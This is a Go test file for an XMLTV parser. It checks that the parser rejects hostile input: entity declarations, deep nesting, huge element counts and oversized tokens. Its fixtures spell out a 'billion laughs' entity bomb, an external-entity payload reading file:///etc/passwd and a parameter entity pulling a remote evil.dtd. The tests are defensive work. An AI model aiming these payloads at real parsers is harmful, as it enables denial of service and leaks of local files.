package xmltv

import (
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"
)

// cycle yields unit over and over, size bytes in all, without ever holding
// more than one copy: a hostile document of any size costs the test nothing.
type cycle struct {
	unit []byte
	left int64
	off  int
}

func repeat(unit string, size int64) *cycle { return &cycle{unit: []byte(unit), left: size} }

func (c *cycle) Read(p []byte) (int, error) {
	if c.left == 0 {
		return 0, io.EOF
	}
	if int64(len(p)) > c.left {
		p = p[:c.left]
	}
	n := 0
	for n < len(p) {
		k := copy(p[n:], c.unit[c.off:])
		n += k
		c.off = (c.off + k) % len(c.unit)
	}
	c.left -= int64(n)
	return n, nil
}

// hostile builds head + unit repeated up to size bytes + tail, lazily.
func hostile(head, unit string, size int64, tail string) io.Reader {
	return io.MultiReader(strings.NewReader(head), repeat(unit, size), strings.NewReader(tail))
}

// peakHeap samples HeapAlloc while Parse pulls from r, since only the
// highest point shows whether something buffered the whole input.
type peakHeap struct {
	r     io.Reader
	reads int
	peak  uint64
}

func (h *peakHeap) Read(p []byte) (int, error) {
	if h.reads++; h.reads%16 == 1 {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		h.peak = max(h.peak, m.HeapAlloc)
	}
	return h.r.Read(p)
}

// allocated runs f and returns the bytes it allocated in total.
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

const mib = 1 << 20

// wantBound checks that err is a *SyntaxError carrying bound.
func wantBound(t *testing.T, err, bound error) {
	t.Helper()
	se := syntaxError(t, err)
	if !errors.Is(err, bound) || se.Line < 1 {
		t.Errorf("error %v: want %v with a line", err, bound)
	}
}

func TestParse_EntityDeclaration_IsErrEntity(t *testing.T) {
	tests := []struct{ name, doc string }{
		{"billion laughs", `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<tv><programme channel="a" start="2024"><title>&lol9;</title></programme></tv>`},
		{"external entity", `<?xml version="1.0"?>
<!DOCTYPE tv [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<tv><programme channel="a" start="2024"><title>&xxe;</title></programme></tv>`},
		{"parameter entity", `<!DOCTYPE tv [<!ENTITY % ext SYSTEM "http://example.com/evil.dtd"> %ext;]><tv/>`},
		{"lower-case declaration", `<!DOCTYPE tv [<!entity x "y">]><tv/>`},
		{"entity declaration outside a DOCTYPE", `<!ENTITY x "y"><tv/>`},
		{"DOCTYPE after the root starts", `<tv><!DOCTYPE tv [<!ENTITY x "y">]></tv>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := parseString(tt.doc, Options{})
			wantBound(t, out.err, ErrEntity)
			if len(out.programmes) != 0 {
				t.Errorf("programmes passed on: %+v", out.programmes)
			}
		})
	}
}

func TestParse_NestingTenThousandDeep_IsErrTooDeep(t *testing.T) {
	r := hostile("<tv>", "<a>", 3*10_000, strings.Repeat("</a>", 10_000)+"</tv>")
	_, err := Parse(r, Options{}, nil, nil)
	wantBound(t, err, ErrTooDeep)
	if se := syntaxError(t, err); !strings.Contains(se.Msg, "deeper than 32") {
		t.Errorf("message %q should name the default bound 32", se.Msg)
	}
}

func TestParse_NestingAtMaxDepth_IsAcceptedAndOneMoreIsNot(t *testing.T) {
	// tv, programme, credits, actor, image: five levels.
	doc := tv(`<programme channel="a" start="2024" stop="2025"><title>T</title><credits><actor>X<image>i</image></actor></credits></programme>`)
	if _, err := Parse(strings.NewReader(doc), Options{MaxDepth: 5}, nil, nil); err != nil {
		t.Errorf("depth 5 with MaxDepth 5: %v", err)
	}
	_, err := Parse(strings.NewReader(doc), Options{MaxDepth: 4}, nil, nil)
	wantBound(t, err, ErrTooDeep)
}

func TestParse_ThreeMillionElements_IsErrTooLargeInSmallHeap(t *testing.T) {
	if testing.Short() {
		t.Skip("parses three million elements")
	}
	runtime.GC()
	var base runtime.MemStats
	runtime.ReadMemStats(&base)
	watch := &peakHeap{r: hostile("<tv>", "<a/>", 4*3_000_000, "</tv>")}
	res, err := Parse(watch, Options{}, nil, nil)
	wantBound(t, err, ErrTooLarge)
	if se := syntaxError(t, err); !strings.Contains(se.Msg, "more than 2000000 elements") {
		t.Errorf("message %q should name the default bound", se.Msg)
	}
	if res != (Result{}) {
		t.Errorf("result %+v, want nothing passed on", res)
	}
	// Two million elements kept as Go values would take hundreds of MiB;
	// streaming keeps only garbage awaiting collection.
	if grown := int64(watch.peak) - int64(base.HeapAlloc); grown > 64*mib {
		t.Errorf("heap grew by %d MiB while parsing, want under 64", grown/mib)
	}
}

func TestParse_ElementCountAtMaxElements_IsAcceptedAndOneMoreIsNot(t *testing.T) {
	doc := tv(`<channel id="a"/>`, `<channel id="b"/>`) // three elements with tv
	if _, err := Parse(strings.NewReader(doc), Options{MaxElements: 3}, nil, nil); err != nil {
		t.Errorf("3 elements with MaxElements 3: %v", err)
	}
	_, err := Parse(strings.NewReader(doc), Options{MaxElements: 2}, nil, nil)
	wantBound(t, err, ErrTooLarge)
}

// Programmes without a stop wait, one per channel, for the next on their
// channel: a document naming a new channel for each would hold them all.
func TestParse_ProgrammesWithoutStopOnMaxWaitingChannels_AreAcceptedAndOneMoreIsNot(t *testing.T) {
	open := func(channels ...string) string {
		var b strings.Builder
		for i, ch := range channels {
			fmt.Fprintf(&b, `<programme channel="%s" start="202611271%d0000 +0000"><title>x</title></programme>`, ch, i)
		}
		return tv(b.String())
	}
	if res, err := Parse(strings.NewReader(open("a", "b", "a", "c")), Options{MaxWaiting: 3}, nil, nil); err != nil || res.Programmes != 1 {
		t.Errorf("3 channels waiting with MaxWaiting 3: %+v %v", res, err)
	}
	_, err := Parse(strings.NewReader(open("a", "b", "c", "d")), Options{MaxWaiting: 3}, nil, nil)
	wantBound(t, err, ErrTooLarge)
}

// encoding/xml buffers a whole token before returning it; each of these is
// 10 MiB, and must be refused after MaxTokenBytes (1 MiB), not after being
// read whole.
func TestParse_TenMiBToken_IsErrTooLargeBeforeBuffering(t *testing.T) {
	if testing.Short() {
		t.Skip("parses a 10 MiB token")
	}
	const huge = 10 * mib
	tests := []struct{ name, head, unit, tail string }{
		{"attribute value", `<tv><channel id="`, "a", `"/></tv>`},
		{"text", `<tv><channel id="a"><display-name>`, "a", `</display-name></channel></tv>`},
		{"text of greater-than signs", `<tv><channel id="a"><display-name>`, ">", `</display-name></channel></tv>`},
		{"comment", `<tv><!--`, "<a>", `--></tv>`},
		{"CDATA", `<tv><channel id="a"><display-name><![CDATA[`, "<a>", `]]></display-name></channel></tv>`},
		{"DOCTYPE", `<!DOCTYPE tv [`, "<!-- -->", `]><tv/>`},
		{"processing instruction", `<tv><?pi `, "<a>", `?></tv>`},
		{"ISO-8859-1 text", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<tv><channel id=\"a\"><display-name>", "\xe9", `</display-name></channel></tv>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var err error
			total := allocated(func() {
				_, err = Parse(hostile(tt.head, tt.unit, huge, tt.tail), Options{}, nil, nil)
			})
			wantBound(t, err, ErrTooLarge)
			// encoding/xml's buffer growth costs a few times the 1 MiB
			// bound; buffering the token whole would cost several times 10 MiB.
			if total > 16*mib {
				t.Errorf("allocated %d MiB, want under 16: the token was buffered", total/mib)
			}
		})
	}
}

func TestParse_TokenOfMaxTokenBytes_IsAcceptedAndOneMoreIsNot(t *testing.T) {
	const limit = 200
	doc := func(n int) string {
		return tv(`<channel id="a"><display-name>` + strings.Repeat("x", n) + `</display-name></channel>`)
	}
	out := parseString(doc(limit), Options{MaxTokenBytes: limit})
	if out.err != nil || len(out.channels) != 1 || len(out.channels[0].Name) != limit {
		t.Errorf("text of %d bytes: %+v, %v", limit, out.channels, out.err)
	}
	out = parseString(doc(limit+1), Options{MaxTokenBytes: limit})
	wantBound(t, out.err, ErrTooLarge)
}

// Many small tokens (text, comment, text...) can add up to a huge element
// text that no single token bound catches.
func TestParse_ElementTextFromManySmallPieces_IsErrTooLarge(t *testing.T) {
	if testing.Short() {
		t.Skip("parses an element text of many MiB")
	}
	var err error
	total := allocated(func() {
		_, err = Parse(hostile(`<tv><channel id="a"><display-name>`, "abc<!---->", 10*mib, `</display-name></channel></tv>`), Options{}, nil, nil)
	})
	wantBound(t, err, ErrTooLarge)
	if total > 64*mib {
		t.Errorf("allocated %d MiB, want the text bounded", total/mib)
	}
}
